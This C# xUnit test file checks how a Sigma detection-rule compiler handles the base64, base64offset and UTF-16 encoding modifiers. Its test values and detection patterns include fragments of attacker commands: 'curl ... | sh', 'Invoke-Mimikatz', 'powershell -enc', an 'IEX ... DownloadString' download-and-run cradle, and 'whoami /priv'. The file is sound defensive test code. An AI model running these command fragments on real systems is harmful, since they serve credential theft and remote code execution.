using System;
using System.Linq;
using System.Text;
using SigmaCompile.Tests.Infrastructure;
using Xunit;

namespace SigmaCompile.Tests.Semantics;

/// <summary>base64, base64offset and the UTF-16 re-encodings (utf16le, wide, utf16be, utf16) before them.</summary>
public sealed class EncodingModifierTests
{
    private static bool MatchF(string detection, string value) => Detections.Matches(detection, Events.With("F", value));

    private static string B64(byte[] bytes) => Convert.ToBase64String(bytes);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Le(string text) => Encoding.Unicode.GetBytes(text);

    private static byte[] Be(string text) => Encoding.BigEndianUnicode.GetBytes(text);

    private static byte[] Bom(string text) => new byte[] { 0xFF, 0xFE }.Concat(Le(text)).ToArray();

    // ---- base64 ---------------------------------------------------------------------------------------

    [Fact]
    public void Base64_is_the_exact_base64_of_the_utf8_value()
    {
        const string Detection = "sel:\n  F|base64: 'http://'\ncondition: sel";
        Assert.Equal("aHR0cDovLw==", B64(Utf8("http://")));
        Assert.True(MatchF(Detection, "aHR0cDovLw=="));
        Assert.False(MatchF(Detection, "x aHR0cDovLw=="));
        Assert.False(MatchF(Detection, "http://"));
        Assert.False(MatchF(Detection, B64(Utf8("https://"))));
    }

    [Fact]
    public void Base64_encodes_non_ascii_values_as_utf8()
    {
        const string Detection = "sel:\n  F|base64: 'caf\u00e9'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Utf8("caf\u00e9"))));
        Assert.False(MatchF(Detection, B64(Encoding.Latin1.GetBytes("caf\u00e9"))));
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("echo ", "")]
    [InlineData("", " | sh")]
    [InlineData("curl x | ", " -c id")]
    public void Base64_contains_finds_the_encoded_value_inside_the_field(string before, string after)
    {
        const string Detection = "sel:\n  F|base64|contains: '/bin/bash'\ncondition: sel";
        Assert.True(MatchF(Detection, before + B64(Utf8("/bin/bash")) + after));
        Assert.False(MatchF(Detection, before + B64(Utf8("/bin/dash")) + after));
    }

    // ---- base64offset ---------------------------------------------------------------------------------

    [Theory]
    [InlineData("", "")]
    [InlineData("a", "")]
    [InlineData("ab", "")]
    [InlineData("abc", "")]
    [InlineData("", "x")]
    [InlineData("a", "xy")]
    [InlineData("ab", "xyz")]
    [InlineData("curl http://x | ", " -i")]
    [InlineData("0123456789", "0")]
    public void Base64offset_contains_finds_the_value_at_each_of_the_three_offsets(string before, string after)
    {
        const string Detection = "sel:\n  F|base64offset|contains: '/bin/bash'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Utf8(before + "/bin/bash" + after))));
        Assert.True(MatchF(Detection, "payload=" + B64(Utf8(before + "/bin/bash" + after)) + ";"));
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("a", "x")]
    [InlineData("ab", "xy")]
    public void Base64offset_contains_rejects_a_different_value_at_every_offset(string before, string after)
    {
        const string Detection = "sel:\n  F|base64offset|contains: '/bin/bash'\ncondition: sel";
        Assert.False(MatchF(Detection, B64(Utf8(before + "/bin/bas" + after))));
        Assert.False(MatchF(Detection, B64(Utf8(before + "/bin/zsh" + after))));
        Assert.False(MatchF(Detection, before + "/bin/bash" + after));
    }

    [Fact]
    public void Base64offset_contains_with_a_list_is_or()
    {
        const string Detection = "sel:\n  F|base64offset|contains:\n    - 'whoami'\n    - 'net user'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Utf8("x whoami /all"))));
        Assert.True(MatchF(Detection, B64(Utf8("yy net user admin"))));
        Assert.False(MatchF(Detection, B64(Utf8("zzz ipconfig"))));
    }

    // ---- UTF-16 before base64 -------------------------------------------------------------------------

    [Theory]
    [InlineData("", "")]
    [InlineData("I", "")]
    [InlineData("IE", "x")]
    [InlineData("IEX; ", "; exit")]
    [InlineData("$a = '", "'")]
    public void Wide_base64offset_contains_matches_base64_of_utf16le_text(string before, string after)
    {
        string text = before + "Invoke-Mimikatz" + after;
        Assert.True(MatchF("sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", "powershell -enc " + B64(Le(text))));
        Assert.True(MatchF("sel:\n  F|utf16le|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Le(text))));
        Assert.False(MatchF("sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Utf8(text))));
    }

    // UTF-16BE of ASCII text is UTF-16LE shifted by one byte, so BE text with characters around the value does hold
    // the LE bytes of the value; only the bare value tells the two byte orders apart.
    [Fact]
    public void Utf16le_and_utf16be_of_the_bare_value_are_told_apart()
    {
        Assert.True(MatchF("sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Le("Invoke-Mimikatz"))));
        Assert.False(MatchF("sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Be("Invoke-Mimikatz"))));
        Assert.True(MatchF("sel:\n  F|utf16be|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Be("Invoke-Mimikatz"))));
        Assert.False(MatchF("sel:\n  F|utf16be|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Le("Invoke-Mimikatz"))));
        Assert.True(MatchF("sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel", B64(Be("xInvoke-Mimikatz!"))));
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("I", "")]
    [InlineData("IE", "x")]
    public void Wide_base64offset_contains_rejects_other_text(string before, string after)
    {
        const string Detection = "sel:\n  F|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel";
        Assert.False(MatchF(Detection, B64(Le(before + "Invoke-Mimikats" + after))));
        Assert.False(MatchF(Detection, B64(Le(before + "Invoke-Expression" + after))));
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("a", "")]
    [InlineData("ab", "c")]
    public void Utf16be_base64offset_contains_matches_base64_of_utf16be_text(string before, string after)
    {
        const string Detection = "sel:\n  F|utf16be|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Be(before + "Invoke-Mimikatz" + after))));
        Assert.False(MatchF(Detection, B64(Utf8(before + "Invoke-Mimikatz" + after))));
        Assert.False(MatchF(Detection, B64(Be(before + "Invoke-Mimikatc" + after))));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    public void Utf16_base64offset_contains_needs_the_byte_order_mark_before_the_value(int leadingBytes)
    {
        const string Detection = "sel:\n  F|utf16|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel";
        byte[] lead = Enumerable.Repeat((byte)0x41, leadingBytes).ToArray();
        Assert.True(MatchF(Detection, B64(lead.Concat(Bom("Invoke-Mimikatz; exit")).ToArray())));
        Assert.False(MatchF(Detection, B64(lead.Concat(Le("Invoke-Mimikatz; exit")).ToArray())));
    }

    [Fact]
    public void Utf16_base64_is_the_base64_of_the_byte_order_mark_and_utf16le()
    {
        const string Detection = "sel:\n  F|utf16|base64: 'cmd'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Bom("cmd"))));
        Assert.False(MatchF(Detection, B64(Le("cmd"))));
        Assert.False(MatchF(Detection, B64(Utf8("cmd"))));
    }

    [Fact]
    public void Wide_base64_contains_matches_the_aligned_encoding()
    {
        const string Detection = "sel:\n  F|wide|base64|contains: 'IEX (New-Object Net.WebClient)'\ncondition: sel";
        string encoded = B64(Le("IEX (New-Object Net.WebClient)"));
        Assert.True(MatchF(Detection, "powershell.exe -EncodedCommand " + encoded));
        Assert.False(MatchF(Detection, "powershell.exe -EncodedCommand " + B64(Utf8("IEX (New-Object Net.WebClient)"))));
        Assert.False(MatchF(Detection, "powershell.exe -EncodedCommand " + B64(Le("IEX (New-Object Net.WebClient2)"))));
    }

    private static byte[] Encode(string encoding, string text) => encoding switch
    {
        "utf16le" or "wide" => Le(text),
        "utf16be" => Be(text),
        "utf16" => Bom(text),
        _ => Utf8(text),
    };

    [Theory]
    [InlineData("utf16le")]
    [InlineData("wide")]
    [InlineData("utf16be")]
    [InlineData("utf16")]
    public void Each_utf16_form_with_base64_contains_finds_its_own_encoding_only(string encoding)
    {
        string detection = $"sel:\n  F|{encoding}|base64|contains: 'Get-Process'\ncondition: sel";
        Assert.True(MatchF(detection, "cmd " + B64(Encode(encoding, "Get-Process")) + " end"));
        Assert.False(MatchF(detection, "cmd " + B64(Encode(encoding, "Get-Service")) + " end"));
        Assert.False(MatchF(detection, "cmd " + B64(Utf8("Get-Process")) + " end"));
        foreach (string other in new[] { "utf16le", "utf16be", "utf16" })
        {
            if (Encode(other, "Get-Process").AsSpan().SequenceEqual(Encode(encoding, "Get-Process")))
                continue;
            Assert.False(MatchF(detection, "cmd " + B64(Encode(other, "Get-Process")) + " end"));
        }
    }

    [Theory]
    [InlineData("utf16le")]
    [InlineData("wide")]
    [InlineData("utf16be")]
    public void Each_utf16_form_with_base64offset_contains_matches_at_all_three_offsets(string encoding)
    {
        string detection = $"sel:\n  F|{encoding}|base64offset|contains: 'Get-Process'\ncondition: sel";
        byte[] value = Encode(encoding, "Get-Process");
        for (int lead = 0; lead < 3; lead++)
        {
            // Whole UTF-16 characters before the value put it at byte offsets 0, 2 and 4, i.e. 0, 2 and 1 mod 3.
            byte[] before = Encode(encoding, new string('x', lead));
            Assert.True(MatchF(detection, B64(before.Concat(value).Concat(Encode(encoding, ";")).ToArray())));
            // (base64offset cannot see every bit of the value's first and last bytes, so the difference is inside.)
            Assert.False(MatchF(detection, B64(before.Concat(Encode(encoding, "Get-Prxcess;")).ToArray())));
        }
    }

    [Fact]
    public void Utf16be_base64_and_utf16le_base64_differ()
    {
        Assert.True(MatchF("sel:\n  F|utf16be|base64: 'ab'\ncondition: sel", B64(Be("ab"))));
        Assert.False(MatchF("sel:\n  F|utf16be|base64: 'ab'\ncondition: sel", B64(Le("ab"))));
        Assert.True(MatchF("sel:\n  F|utf16le|base64: 'ab'\ncondition: sel", B64(Le("ab"))));
        Assert.False(MatchF("sel:\n  F|utf16le|base64: 'ab'\ncondition: sel", B64(Be("ab"))));
    }

    [Fact]
    public void Cased_makes_encoded_matching_ordinal()
    {
        const string Detection = "sel:\n  F|base64offset|contains|cased: '/bin/bash'\ncondition: sel";
        string encoded = B64(Utf8("x /bin/bash"));
        Assert.True(MatchF(Detection, encoded));
        Assert.False(MatchF(Detection, encoded.ToLowerInvariant()));
    }

    [Theory]
    [InlineData("", "")]
    [InlineData("a", "b")]
    [InlineData("ab", "")]
    public void Base64offset_contains_all_needs_every_value_at_any_offset(string before, string after)
    {
        const string Detection = "sel:\n  F|base64offset|contains|all:\n    - 'whoami'\n    - '/priv'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Utf8(before + "whoami /priv" + after))));
        Assert.True(MatchF(Detection, B64(Utf8(before + "whoami")) + " " + B64(Utf8("x /priv" + after))));
        Assert.False(MatchF(Detection, B64(Utf8(before + "whoami /all" + after))));
        Assert.False(MatchF(Detection, B64(Utf8(before + "net /priv" + after))));
    }

    [Fact]
    public void Wide_base64offset_contains_all_needs_every_value()
    {
        const string Detection = "sel:\n  F|wide|base64offset|contains|all:\n    - 'IEX'\n    - 'DownloadString'\ncondition: sel";
        Assert.True(MatchF(Detection, B64(Le("$x; IEX (New-Object Net.WebClient).DownloadString('http://h/')"))));
        Assert.False(MatchF(Detection, B64(Le("$x; (New-Object Net.WebClient).DownloadString('http://h/')"))));
        Assert.False(MatchF(Detection, B64(Le("IEX $x"))));
    }

    // ---- chain errors ---------------------------------------------------------------------------------

    [Theory]
    [InlineData("F|wide: x")]
    [InlineData("F|utf16le|contains: x")]
    [InlineData("F|contains|base64: x")]
    [InlineData("F|base64|contains: 'a*b'")]
    [InlineData("F|base64|wide|contains: x")]
    [InlineData("F|base64|base64offset|contains: x")]
    [InlineData("F|wide|utf16be|base64: x")]
    public void Invalid_encoding_chains_are_compile_errors(string item) =>
        Assert.Throws<InvalidOperationException>(() => MatchF("sel:\n  " + item + "\ncondition: sel", "x"));
}
